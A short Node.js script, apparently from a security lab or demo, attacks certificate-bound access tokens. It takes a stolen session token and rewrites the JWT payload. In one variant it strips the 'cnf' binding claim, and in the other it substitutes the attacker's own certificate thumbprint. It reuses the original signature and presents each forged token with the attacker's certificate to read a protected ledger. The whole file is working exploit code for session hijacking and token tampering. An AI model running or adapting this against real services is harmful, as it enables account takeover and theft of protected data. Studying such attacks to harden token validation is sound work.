import { createHash, X509Certificate } from 'node:crypto';
import { ownCertificate, readLedger, stealSession } from './tools.js';

const { token } = await stealSession();
const [header, payload, signature] = token.split('.');
const claims = JSON.parse(Buffer.from(payload, 'base64url').toString());

const { raw } = new X509Certificate(ownCertificate.cert);
const hers = createHash('sha256').update(raw).digest('base64url');

for (const [what, cnf] of Object.entries({ 'no cnf': undefined, 'her own cnf': { 'x5t#S256': hers } })) {
  const changed = Buffer.from(JSON.stringify({ ...claims, cnf })).toString('base64url');
  console.log(`with ${what}`);
  await readLedger(`${header}.${changed}.${signature}`, ownCertificate);
}
